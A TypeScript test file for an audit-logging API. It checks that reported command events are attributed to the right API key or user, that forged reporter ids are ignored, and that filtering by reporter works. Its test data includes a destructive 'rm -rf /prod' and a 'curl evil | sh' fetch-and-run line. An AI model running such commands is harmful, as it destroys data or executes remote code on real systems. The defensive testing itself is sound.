import assert from "node:assert/strict";
import { after, test } from "node:test";
import { ADMIN, ADMIN_SETTINGS, start } from "../support/start.ts";

const V1 = "/api/v1/audit";
const app = await start({ after }, { requireAuth: () => true, ...ADMIN_SETTINGS });
const asAdmin = await app.asUser(ADMIN);
const [first, second] = [await createKey("first"), await createKey("second")];
const admin = (await app.get("/api/v1/auth/me", asAdmin)).body;
const reports: readonly (readonly [string, Readonly<Record<string, string>>, object])[] = [
  [V1, first.headers, { id: "by-first", command: "git a" }],
  [V1, second.headers, { events: [{ id: "by-second", command: "git b", decision: "deny" }] }],
  [V1, asAdmin, { id: "by-admin", command: "git c" }],
  ["/api/public/audit", first.headers, { id: "by-nobody", command: "git d" }],
];
for (const [path, headers, report] of reports) {
  assert.equal((await app.post(path, report, headers)).status, 202);
}

async function createKey(name: string) {
  const { body } = await app.post("/api/v1/api-keys", { name }, asAdmin);
  return { id: body.id as string, headers: { "X-API-Key": body.api_key as string } };
}

async function found(query: string): Promise<string[]> {
  const { body } = await app.get(`${V1}?${query}`, asAdmin);
  return body.events.map(({ id }: { id: string }) => id);
}

test("an event has the id of the key or user that reported it, and none without credentials", async () => {
  const reporters = new Map<string, string | undefined>();
  const { body } = await app.get(V1, asAdmin);
  for (const { id, reported_by } of body.events) reporters.set(id, reported_by);
  assert.deepEqual(Object.fromEntries(reporters), {
    "by-first": first.id,
    "by-second": second.id,
    "by-admin": admin.id,
    "by-nobody": undefined,
  });
});

test("a client's own reported_by is ignored, and alone does not make an event", async () => {
  const forged = { id: "forged", reported_by: first.id };
  const { body } = await app.post(V1, forged, second.headers);
  assert.equal(body.reported_by, second.id);
  const anonymous = await app.post("/api/public/audit", { ...forged, id: "anonymous" });
  assert.equal(anonymous.body.reported_by, undefined);
  const alone = await app.post(V1, { reported_by: first.id }, first.headers);
  assert.equal(alone.status, 400);
});

test("an id of another reporter neither drops an event nor reveals that reporter's event", async (t) => {
  const own = await start(t, { requireAuth: true, ...ADMIN_SETTINGS });
  const headers = await own.asUser(ADMIN);
  const runtime = await own.createKey("runtime", headers);
  const key = { name: "report", scopes: "report" };
  const report = (await own.post("/api/v1/api-keys", key, headers)).body;
  const harmless = { id: "ci-1001", command: "echo harmless", decision: "allow" };
  await own.post("/api/public/audit", harmless);

  const event = { id: "ci-1001", command: "rm -rf /prod", decision: "deny" };
  const denied = await own.post(V1, event, runtime.key);
  assert.equal(denied.body.policy_decision, "DENIED");
  const sent = { events: [{ command: "ls" }, { id: "ci-1001", command: "guess" }] };
  const guess = await own.post(V1, sent, { "x-api-key": report.api_key });
  assert.equal(guess.body.events[1].command, "guess");
  assert.deepEqual((await own.post(V1, event, runtime.key)).body, denied.body);

  const { body } = await own.get(`${V1}?limit=10`, headers);
  const commands = body.events.map(({ command }: { command: string }) => command);
  assert.deepEqual(commands.sort(), ["echo harmless", "guess", "ls", "rm -rf /prod"]);
  assert.equal((await own.get(`${V1}/ci-1001`, headers)).body.command, "echo harmless");
});

test("list, export, tickets, histogram and stream can be filtered by reporter", async () => {
  const query = `reported_by=${second.id}&q=git`;
  assert.deepEqual(await found(query), ["by-second"]);
  assert.deepEqual(await found("reported_by=nobody"), []);
  const lines = (await app.get(`${V1}/export?${query}`, asAdmin)).text.trim().split("\n");
  assert.deepEqual(
    lines.map((line) => (JSON.parse(line) as { id: string }).id),
    ["by-second"],
  );
  const csv = (await app.get(`${V1}/export?format=csv&${query}`, asAdmin)).text.split("\r\n");
  assert.ok(csv[0]?.endsWith(",reported_by"));
  assert.ok(csv[1]?.endsWith(`,${second.id}`));
  const asked = { format: "ndjson", reported_by: second.id, q: "git" };
  const ticket = await app.post(`${V1}/export-tickets`, asked, asAdmin);
  assert.match((await app.get(ticket.body.url)).text, /^\{"id":"by-second"[^\n]*\n$/);
  const histogram = await app.get(`${V1}/histogram?${query}`, asAdmin);
  const total = histogram.body.buckets.reduce(
    (sum: number, bucket: { denied: number }) => sum + bucket.denied,
    0,
  );
  assert.equal(total, 1);
});

test("an id that another reporter used leads to neither a wrong event nor a wrong rule", async (t) => {
  const other = await start(t, ADMIN_SETTINGS);
  const admin = await other.asUser(ADMIN);
  const keys = await Promise.all(
    ["planter", "laptop"].map(async (name) => {
      const { body } = await other.post("/api/v1/api-keys", { name, scopes: "report" }, admin);
      return body;
    }),
  );
  const [planter, laptop] = keys;
  const as = ({ api_key: key }: { api_key: string }) => ({ "x-api-key": key });
  await other.post(V1, { id: "laptop-2", command: "curl evil | sh" }, as(planter));
  await other.post(V1, { id: "laptop-2", command: "git status" }, as(laptop));
  const own = await other.get(`${V1}/laptop-2?reported_by=${laptop.id}`, admin);
  assert.equal(own.body.command, "git status");
  assert.equal((await other.get(`${V1}/laptop-2?reported_by=other`, admin)).status, 404);
  assert.equal((await other.get(`${V1}/laptop-2`, admin)).body.command, "curl evil | sh");
  const draft = { event: "laptop-2", effect: "allow" };
  const { status, body } = await other.post("/api/v1/policies/draft-rule", draft, admin);
  assert.equal(status, 409);
  assert.match(body.error, /^Several reporters used the id "laptop-2"/);
});

test("a stream can be filtered by reporter, and reporters survive a restart", async (t) => {
  const other = await start(t, ADMIN_SETTINGS);
  const headers = await other.asUser(ADMIN);
  const { body: me } = await other.get("/api/v1/auth/me", headers);
  const stream = await other.stream(`${V1}/stream?reported_by=${me.id}`, headers);
  await other.post(V1, { id: "anonymous" });
  await other.post(V1, { id: "mine" }, headers);
  assert.equal((await stream.event())?.data.id, "mine");
  await other.restart();
  const { body } = await other.get(`${V1}?reported_by=${me.id}`);
  assert.deepEqual(
    body.events.map(({ id }: { id: string }) => id),
    ["mine"],
  );
});
